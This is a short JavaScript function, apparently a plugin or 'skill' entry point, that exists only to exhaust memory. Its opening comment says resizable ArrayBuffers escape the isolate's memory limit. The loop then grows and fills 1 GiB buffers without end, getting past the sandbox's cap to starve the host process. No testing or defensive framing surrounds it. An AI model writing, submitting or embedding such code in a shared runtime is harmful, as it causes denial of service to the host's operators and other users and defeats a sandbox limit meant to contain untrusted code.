// a resizable buffer, which the limit of the isolate does not count
function skill(input) {
  const parts = [];
  for (;;) { const part = new ArrayBuffer(8, { maxByteLength: 2 ** 30 }); part.resize(2 ** 30); new Uint8Array(part).fill(1); parts.push(part); }
}
